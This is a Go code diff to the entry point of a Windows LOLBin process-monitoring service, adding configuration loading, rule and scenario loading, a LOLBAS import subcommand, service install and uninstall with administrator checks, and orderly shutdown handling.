 
 // Main entry point
 func main() {
-	isIntSess, err := svc.IsAnInteractiveSession()
+	// Subcommands run instead of the agent
+	if len(os.Args) > 1 && os.Args[1] == "import-lolbas" {
+		os.Exit(runImportLOLBAS(os.Args[2:]))
+	}
+
+	installPtr := flag.Bool("install", false, "Install the agent as a Windows service and start it")
+	uninstallPtr := flag.Bool("uninstall", false, "Stop and remove the Windows service")
+	configPath := flag.String("config", "", "Path to a YAML config file; flags override its values")
+	flagged := defaultConfig()
+	bindConfigFlags(flag.CommandLine, flagged)
+	flag.Parse()
+
+	cfg, err := loadConfig(*configPath, flag.CommandLine, flagged)
 	if err != nil {
-		log.Fatalf("Failed to determine if running in an interactive session: %v", err)
+		log.Fatalf("Invalid configuration: %v", err)
 	}
+	config = cfg
+	// Validated with the config
+	businessHours, _ = compileBusinessHours(config.BusinessHours)
+	approvedScriptDirs, _ = compileScriptDirs(config.ScriptHosts.ApprovedDirs)
+	ntdsBackupParents, _ = compileBinaryPatterns(config.NTDSBackups.Parents, "ntds_backups.parents")
 
 	// Initialize and name the service
 	svcName := "WinLOLBinMonitor"
+	svcDesc := "Windows LOLBin Process Monitor"
+
+	if (*installPtr || *uninstallPtr) && !isElevated() {
+		log.Fatalf("Installing or removing the service requires administrator rights: %s", elevationHint)
+	}
+	if *installPtr {
+		// Take the running processes as the baseline before the service
+		// starts judging them
+		if err := prewarmSeen(config.FirstSeen); err != nil {
+			log.Printf("Failed to pre-warm seen-set: %v", err)
+		}
+		if err := InstallService(svcName, svcDesc, serviceArgs()...); err != nil {
+			log.Fatalf("Failed to install service: %v", err)
+		}
+		fmt.Println("Service installed successfully")
+		return
+	}
+	if *uninstallPtr {
+		if err := UninstallService(svcName); err != nil {
+			log.Fatalf("Failed to uninstall service: %v", err)
+		}
+		fmt.Println("Service uninstalled successfully")
+		return
+	}
+
+	logEffectiveConfig(config)
+
+	rules, err := loadRuleSet(config.RulesPath)
+	if err != nil {
+		log.Fatalf("Failed to load rules: %v", err)
+	}
+	reloadMutex.Lock()
+	activateRules(rules)
+	reloadMutex.Unlock()
+
+	if config.Simulator.ScenarioFile != "" {
+		scenarios, err = loadScenarios(config.Simulator)
+		if err != nil {
+			log.Fatalf("Failed to load scenarios: %v", err)
+		}
+	}
+	activeSources, err = buildSources(config.Sources)
+	if err != nil {
+		log.Fatalf("Failed to set up event sources: %v", err)
+	}
+
+	isIntSess, err := svc.IsAnInteractiveSession()
+	if err != nil {
+		log.Fatalf("Failed to determine if running in an interactive session: %v", err)
+	}
 
 	if isIntSess {
 		// Running as a console application
 		fmt.Println("Starting Windows LOLBin Monitor in console mode...")
 
+		if !isElevated() {
+			log.Printf("Running without administrator rights: details of elevated processes, such as their user and integrity level, are unavailable")
+		}
+
 		// Create and open the event log
-		elog, err := eventlog.Open(svcName)
-		if err != nil {
-			log.Printf("Failed to open event log: %v. Will continue without event logging.", err)
+		if config.SkipEventLog {
+			log.Printf("Event logging disabled (-skip-eventlog)")
+		} else if l, err := eventlog.Open(svcName); err != nil {
+			log.Printf("Event log unavailable, continuing without event logging: %v. Install the service as administrator to register the event source, or pass -skip-eventlog.", err)
 		} else {
+			elog = l
 			defer elog.Close()
 		}
 
 		// Run the service in debug mode
-		service := &Service{}
+		service := &Service{stop: make(chan struct{})}
+		serviceDone := make(chan struct{})
 		go func() {
+			defer close(serviceDone)
 			err = debug.Run(svcName, service)
 			if err != nil {
 				if elog != nil {
@@ -338,16 +813,37 @@ func main() {
 		}()
 
 		fmt.Println("Service is running. Press Enter to stop.")
-		fmt.Scanln()
+		enter := make(chan struct{})
+		go func() {
+			fmt.Scanln()
+			close(enter)
+		}()
 
-		fmt.Println("Shutting down...")
+		// Enter stops the service the way the service manager would, so
+		// state is saved and alerts flushed; Ctrl+C already does
+		select {
+		case <-enter:
+			fmt.Println("Shutting down...")
+			close(service.stop)
+			<-serviceDone
+		case <-serviceDone:
+		}
 		return
 	}
 
 	// Running as a Windows service
+	if !config.SkipEventLog {
+		if l, err := eventlog.Open(svcName); err == nil {
+			elog = l
+			defer elog.Close()
+		}
+	}
+
 	err = svc.Run(svcName, &Service{})
 	if err != nil {
-		eventlog.Report(eventlog.Error, 1, fmt.Sprintf("Service failed: %v", err))
+		if elog != nil {
+			elog.Error(1, fmt.Sprintf("Service failed: %v", err))
+		}
 		return
 	}
 }